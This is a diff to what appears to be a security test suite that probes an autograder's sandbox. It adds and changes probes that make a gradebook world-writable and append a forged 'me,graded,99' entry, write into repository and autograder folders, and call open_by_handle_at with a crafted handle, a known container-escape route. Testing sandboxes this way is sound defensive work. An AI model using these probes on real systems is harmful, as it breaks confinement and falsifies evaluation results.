@@ -14,6 +14,7 @@ def overwrites_the_gradebook():
         path = f"{PLACES['grades']}/{name}"
         try:
             os.chmod(path, 0o777)
+            os.utime(path, (0, 0))
             with open(path, "a") as file:
                 file.write("me,graded,99\n")
             found.append(path)
@@ -42,8 +43,6 @@ def writes_results_at_exit():
 
 @attack(2, off="files")
 def writes_in_the_repository():
-    import os
-
     found = []
     for folder in ("", "/solutions", "/autograder/worker", "/autograder/worker/scenarios/cnn"):
         try:
@@ -51,11 +50,6 @@ def writes_in_the_repository():
             with open(path, "w") as file:
                 file.write("here")
             found.append(path)
-        except OSError:
-            pass
-        try:
-            os.utime(f"{PLACES['root']}{folder}")
-            found.append("utime")
         except OSError:
             pass
     return found
@@ -126,7 +120,24 @@ def makes_a_namespace():
 def holds_capabilities():
     with open("/proc/self/status") as file:
         held = [line.split() for line in file if line.startswith(("CapEff", "CapPrm", "CapAmb"))]
-    return [f"{name} {value}" for name, value in held if int(value, 16)]
+    may_read = 1 << 2  # what others own, as far as it is shown at all; root keeps that
+    return [f"{name} {value}" for name, value in held if int(value, 16) & ~may_read]
+
+
+@attack(2, off="users")
+def opens_a_file_by_its_handle():
+    """The way out of many a container: whoever may read all may open / by its number."""
+    import ctypes
+    import os
+
+    libc = ctypes.CDLL(None, use_errno=True)
+    handle = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little")
+    found = []
+    for place in ("/", "/usr/lib", os.path.dirname(os.__file__)):
+        mounted = os.open(place, os.O_RDONLY)
+        if libc.syscall(304, mounted, handle, os.O_RDONLY) >= 0:  # open_by_handle_at
+            found.append(place)
+    return found
 
 
 @attack(2, off="users")
